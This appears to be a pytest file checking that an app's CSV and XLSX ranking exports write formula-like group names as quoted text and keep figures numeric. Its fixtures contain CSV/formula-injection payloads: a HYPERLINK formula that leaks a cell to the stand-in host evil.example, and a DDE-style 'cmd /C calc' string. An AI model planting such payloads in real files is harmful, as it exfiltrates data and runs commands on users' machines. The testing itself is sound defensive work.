"""Issue 11, item 6: a group's name or code that reads as a formula stays text in the ranking exports (CSV and
XLSX): a spreadsheet opening them must not run `=HYPERLINK(…)` and the like. The figures stay numbers."""

import csv
import io
import zipfile

import pytest
from python_calamine import CalamineWorkbook

from members.models import Group
from tests.conftest import PASSWORD, Client

from .story import build_story

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&B5,"点击")'


@pytest.fixture
def story(db):
    return build_story()


@pytest.fixture
def manager_client(manager):
    # Server errors come back as responses (what a browser would get), so a 500 is asserted, not raised.
    client = Client(raise_request_exception=False)
    assert client.login(username=manager.username, password=PASSWORD)
    return client


@pytest.fixture
def hostile_groups(story):
    Group.objects.create(code="+G1", name=HOSTILE_NAME, capacity=10)
    Group.objects.create(code="G2", name="@SUM(1+1)*cmd|' /C calc'!A0", capacity=10)
    Group.objects.create(code="G3", name="-2+3", capacity=10)
    Group.objects.create(code="G4", name="\t=1+1", capacity=10)


def test_ranking_csv_writes_formula_like_names_as_text(manager_client, hostile_groups):
    response = manager_client.get("/analytics/?week=2026-W02&export=csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    by_code = {row[0]: row for row in rows[1:]}
    assert by_code["'+G1"][1] == "'" + HOSTILE_NAME
    assert by_code["G2"][1].startswith("'@SUM")
    assert by_code["G3"][1] == "'-2+3"
    assert by_code["G4"][1] == "'\t=1+1"
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert by_code["CD-VIP"][2] == "620.00"  # the figures are untouched


def test_ranking_xlsx_has_no_formula_and_no_link(manager_client, hostile_groups):
    response = manager_client.get("/analytics/?week=2026-W02&export=xlsx")
    with zipfile.ZipFile(io.BytesIO(response.content)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        names = book.namelist()
    assert "<f>" not in sheet, "a cell holds a formula"
    assert "<hyperlink" not in sheet
    assert not any("/_rels/sheet1" in name for name in names)
    rows = CalamineWorkbook.from_filelike(io.BytesIO(response.content)).get_sheet_by_index(0).to_python()
    by_code = {row[0]: row for row in rows if row and isinstance(row[0], str)}
    assert by_code["'+G1"][1] == "'" + HOSTILE_NAME
    assert by_code["G3"][1] == "'-2+3"
    assert by_code["CD-VIP"][2] == 620.0  # numbers stay numbers
